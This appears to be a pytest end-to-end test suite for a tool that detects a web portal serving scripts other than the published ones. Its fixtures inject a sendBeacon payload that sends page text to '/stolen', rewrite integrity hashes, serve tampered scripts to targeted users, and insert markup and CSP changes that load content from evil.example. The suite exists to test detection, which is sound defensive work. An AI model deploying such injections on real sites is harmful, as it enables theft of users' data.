"""A portal that serves other scripts than the published ones, page and all: who finds it, and how (spec/web.md)."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser
from starlette.types import ASGIApp, Message, Receive, Scope, Send
from typer.testing import CliRunner, Result

from e2e.chromium import require
from kakine.cli.root import app as commands
from kakine.values.problems import HarMalformed, PageDiffers, PageListMalformed, PageUnreachable
from kakine.web.headers import policy
from kakine.web.scripts import Given, faults, listed, listing
from web.kit import chromium, listening, socket_of
from web.portal_site import PortalLand
from web.test_portal_in_chromium import come_in

EVIL = b'\nnavigator.sendBeacon("/stolen", document.body.innerText);\n'


@dataclass
class Liar:
    """The portal's own application with its answers changed on the way out. `to` says which callers are lied to."""

    app: ASGIApp
    change: Callable[[str, bytes], bytes] = lambda path, body: body
    strict: str = ""
    to: Callable[[dict[bytes, bytes]], bool] = lambda headers: True
    told: list[str] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        start: list[Message] = []
        body = bytearray()

        async def sending(message: Message) -> None:
            if message["type"] == "http.response.start":
                start.append(message)
                return
            body.extend(message.get("body", b""))
            if not message.get("more_body"):
                await send(self._head(start[0], scope["path"]))
                await send({"type": "http.response.body", "body": self._body(scope, bytes(body))})

        await self.app(scope, receive, sending)

    def _body(self, scope: Scope, body: bytes) -> bytes:
        return self.change(scope["path"], body) if self.to(dict(scope["headers"])) else body

    def _head(self, message: Message, path: str) -> Message:
        kept = [each for each in message["headers"] if each[0].lower() != b"content-length"]
        if self.strict:
            kept = [each for each in kept if each[0].lower() != b"content-security-policy"]
            kept.append((b"content-security-policy", self.strict.encode()))
        return {**message, "headers": kept}


def command(*words: str) -> Result:
    """`kakine page …`, in a thread of its own: Playwright has a loop in this one."""
    with ThreadPoolExecutor(1) as other:
        return other.submit(CliRunner().invoke, commands, ["page", *words]).result()


@dataclass
class Served:
    portal: PortalLand
    liar: Liar
    browser: Browser
    papers: list[str]

    @property
    def origin(self) -> str:
        return self.portal.origin

    def check(self, *more: str) -> Result:
        """`kakine page check`, as a stranger unless told otherwise."""
        return command("check", self.origin, *more)


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    require()
    socket = socket_of()
    origin = f"http://localhost:{socket.getsockname()[1]}"
    with PortalLand.opened(tmp_path_factory.mktemp("published") / "land", origin) as portal:
        liar, papers = Liar(portal.app), [portal.site.paper(0) for _ in range(2)]
        with listening(liar, portal.site.run, socket), chromium() as browser:
            yield Served(portal, liar, browser, papers)


@pytest.fixture
def served(running: Served) -> Iterator[Served]:
    yield running
    running.liar.change, running.liar.strict = lambda path, body: body, ""
    running.liar.to = lambda headers: True


def visit(served: Served, path: Path, code: str) -> Path:
    """A visit to the history room, kept as the browser's own record of it."""
    with served.browser.new_context(record_har_path=path, record_har_content="embed") as context:
        page = context.new_page()
        page.goto(served.origin)
        come_in(page, code)
        page.wait_for_load_state("networkidle")
        page.goto(served.origin + "/history")
        page.wait_for_selector(".history-verdict")
        page.wait_for_load_state("networkidle")
    return path


def integrity(content: bytes) -> bytes:
    return b"sha384-" + base64.b64encode(hashlib.sha384(content).digest())


class Swap:
    """One script changed, and the hash of it in every page too: nothing in the browser can object."""

    def __init__(self, name: str) -> None:
        self.name, self.was = name, b""

    def __call__(self, path: str, body: bytes) -> bytes:
        if path.endswith("/" + self.name):
            self.was = body
            return body + EVIL
        return body.replace(integrity(self.was), integrity(self.was + EVIL)) if self.was else body


def swapped(served: Served, name: str) -> Swap:
    """A swap that has seen the file."""
    swap = Swap(name)
    served.liar.change = swap
    served.check()
    assert swap.was
    return swap


def test_an_honest_portal_serves_what_was_published(served: Served, tmp_path: Path) -> None:
    told = served.check()
    assert (told.exit_code, "✓" in told.output) == (0, True), told.output
    har = visit(served, tmp_path / "visit.har", served.papers.pop())
    own = served.check("--har", str(har))
    assert (own.exit_code, own.output.count("✗")) == (0, 0), own.output


def test_a_script_changed_for_everybody_is_found_by_any_stranger(served: Served) -> None:
    swapped(served, "history/view.js")
    told = served.check()
    assert isinstance(told.exception, PageDiffers)
    assert "changed-file" in told.output
    assert "history/view.js" in told.output


def test_a_script_changed_for_one_person_is_found_in_what_that_person_was_given(
    served: Served, tmp_path: Path
) -> None:
    """With its hash in the page changed too, so that the browser runs it: a stranger is shown the true one."""
    swapped(served, "history/view.js")
    served.liar.to = lambda headers: b"cookie" in headers
    assert served.check().exit_code == 0
    har = visit(served, tmp_path / "visit.har", served.papers.pop())
    told = served.check("--har", str(har))
    assert isinstance(told.exception, PageDiffers)
    assert "changed-file" in told.output


@pytest.mark.parametrize(
    ("inserted", "what"),
    [
        (b"<script>steal()</script>", "inline-script"),
        (b'<script src="https://evil.example/a.js"></script>', "elsewhere"),
        (b'<script src="/static/00000000000000000000000000000000/more.js"></script>', "not-seen"),
        (b'<p onclick="steal()">', "inline-script"),
        (b'<a href=" javascript:steal()">', "inline-script"),
        (b'<base href="https://evil.example/">', "element"),
        (b'<iframe src="/"></iframe>', "element"),
        (b'<meta http-equiv="refresh" content="0;url=//evil.example">', "element"),
    ],
)
def test_a_page_with_something_more_in_it_is_not_as_published(inserted: bytes, what: str) -> None:
    page = Given("http://a.example/", "text/html", policy(), b"<html><body>" + inserted)
    assert [each.what for each in faults("http://a.example", [page], {})] == [what]
    plain = Given("http://a.example/", "text/html", policy(), b"<html><body>")
    assert list(faults("http://a.example", [plain], {})) == []


@pytest.mark.parametrize(
    "said",
    [
        "",
        "default-src *",
        policy().replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
        policy().replace("script-src 'self'", "script-src 'self' https://evil.example"),
        policy().replace("frame-ancestors 'none'", "frame-ancestors *"),
        "script-src *; " + policy(),
    ],
)
def test_a_page_whose_policy_lets_more_run_is_not_as_published(served: Served, said: str) -> None:
    page = Given("http://a.example/", "text/html", said, b"<html>")
    assert [each.what for each in faults("http://a.example", [page], {})] == ["policy"]
    served.liar.strict = said or "default-src *"
    assert isinstance(served.check().exception, PageDiffers)


def test_a_file_that_nobody_published_is_named() -> None:
    more = Given("http://a.example/static/" + "0" * 32 + "/more.js", "text/javascript", "", b"1")
    assert [each.what for each in faults("http://a.example", [more], {"room.js": "0" * 64})] == [
        "unknown-file"
    ]


def test_the_list_is_the_release_and_reads_back(served: Served, tmp_path: Path) -> None:
    """What is printed is what is compared with, and can be published (`kakine ledger publish`)."""
    told = command("list").output
    known = listed(told)
    assert {"room.js", "history/page.js", "history/vendor/noble-hashes-2.4.0/sha3.js", "login.js"} <= set(
        known
    )
    path = tmp_path / "scripts.txt"
    path.write_text(told, "ascii")
    assert served.check("--list", str(path)).exit_code == 0
    path.write_text(told.replace(known["room.js"], "0" * 64), "ascii")
    assert isinstance(served.check("--list", str(path)).exception, PageDiffers)
    assert listed(listing({"a.js": b"1", "a.svg": b"2"})).keys() == {"a.js"}


@pytest.mark.parametrize(
    "text", ["", "x  room.js\n", "0" * 64 + " room.js\n", ("0" * 64 + "  room.js\n") * 2]
)
def test_a_list_in_another_form_is_refused(text: str) -> None:
    with pytest.raises(PageListMalformed):
        listed(text)


@pytest.mark.parametrize(
    "har", [b"", b"[]", b"{}", b'{"log": {"entries": []}}', b'{"log": {"entries": [1]}}']
)
def test_a_record_of_nothing_confirms_nothing(served: Served, tmp_path: Path, har: bytes) -> None:
    path = tmp_path / "visit.har"
    path.write_bytes(har)
    assert isinstance(served.check("--har", str(path)).exception, HarMalformed)


def test_a_record_of_another_site_confirms_nothing(served: Served, tmp_path: Path) -> None:
    answer: dict[str, Any] = {
        "status": 200,
        "headers": [],
        "content": {"mimeType": "text/html", "text": "<html>"},
    }
    entry = {"request": {"url": "http://other.example/"}, "response": answer}
    path = tmp_path / "visit.har"
    path.write_text(json.dumps({"log": {"entries": [entry]}}))
    assert isinstance(served.check("--har", str(path)).exception, HarMalformed)


def test_a_site_that_does_not_answer_confirms_nothing() -> None:
    told = command("check", "http://127.0.0.1:9")
    assert isinstance(told.exception, PageUnreachable)
